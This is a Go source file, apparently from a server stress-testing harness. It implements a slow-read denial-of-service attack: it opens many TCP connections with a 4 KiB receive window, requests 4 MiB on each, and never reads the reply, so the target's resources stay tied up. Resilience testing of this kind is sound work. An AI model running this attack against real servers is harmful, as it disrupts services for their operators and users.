package main

import (
	"context"
	"io"
	"net"
	"sync"
	"syscall"
	"time"
)

// rampUp is how long the attackers of one attack take to connect all, and so what they
// connect a second: n/5. A connection costs an emulated processor three or four times a
// request, and with more than it can answer at all the polite wait as well. Who is cut off
// comes back no faster.
const rampUp = 5 // seconds

// burst is how many connect at once when the host was too busy for more before.
const burst = 64

// hold keeps n connections open until ctx ends, makes those again that the machine
// ends, and has each do something to begin with. window is the receive buffer's
// size in bytes, 0 for the system's choice.
func hold(ctx context.Context, t *target, n, window int, begin func(ctx context.Context, c net.Conn)) *tally {
	counts := new(tally)
	turns := make(chan struct{})
	var clients sync.WaitGroup
	for range n {
		clients.Go(func() {
			for range turns {
				counts.connect(ctx, t, window, begin)
			}
		})
	}
	paced(ctx, max(1, n/rampUp), burst, func() bool {
		select {
		case turns <- struct{}{}:
		default: // all are connected
		}
		return true
	})
	close(turns)
	clients.Wait()
	return counts
}

// connect makes one connection and stays until it ends.
func (counts *tally) connect(ctx context.Context, t *target, window int, begin func(ctx context.Context, c net.Conn)) {
	c, err := dial(ctx, t.addr, window)
	if err != nil {
		if ctx.Err() == nil {
			counts.refused.Add(1)
		}
		return
	}
	defer c.Close()
	counts.opened.Add(1)
	stop := context.AfterFunc(ctx, func() { c.Close() })
	begin(ctx, c)
	if stop(); ctx.Err() == nil {
		counts.ended.Add(1)
	}
}

// dial connects with a receive buffer of that many bytes, which must be set before
// for the window to be small from the beginning.
func dial(ctx context.Context, addr string, window int) (net.Conn, error) {
	d := net.Dialer{Timeout: 10 * time.Second}
	if window != 0 {
		d.Control = func(_, _ string, c syscall.RawConn) (err error) {
			c.Control(func(fd uintptr) {
				err = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, window)
			})
			return err
		}
	}
	return d.DialContext(ctx, "tcp", addr)
}

func wait(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// unread waits for the connection's end without reading.
func unread(ctx context.Context, c net.Conn) {
	var probe [1]byte
	for ctx.Err() == nil {
		wait(ctx, time.Second)
		if err := peek(c, probe[:]); err != nil {
			return
		}
	}
}

// peek tells whether the connection has ended. It leaves what came where it is.
func peek(c net.Conn, p []byte) (err error) {
	raw, err := c.(*net.TCPConn).SyscallConn()
	if err != nil {
		return err
	}
	if e := raw.Control(func(fd uintptr) {
		var n int
		n, _, err = syscall.Recvfrom(int(fd), p, syscall.MSG_PEEK|syscall.MSG_DONTWAIT)
		if err == nil && n == 0 {
			err = io.EOF
		}
	}); e != nil {
		return e
	}
	if err == syscall.EAGAIN {
		return nil
	}
	return err
}

// stalled readers ask once and do not read.
var stalled = attack{
	name: "stalled", strength: 2000,
	about: "connections that ask for 4 MiB with a window of 4 KiB and do not read",
	run: func(ctx context.Context, t *target, n int) (string, error) {
		return hold(ctx, t, n, 4<<10, func(ctx context.Context, c net.Conn) {
			if _, err := c.Write(get(large)); err == nil {
				unread(ctx, c)
			}
		}).String(), nil
	},
}
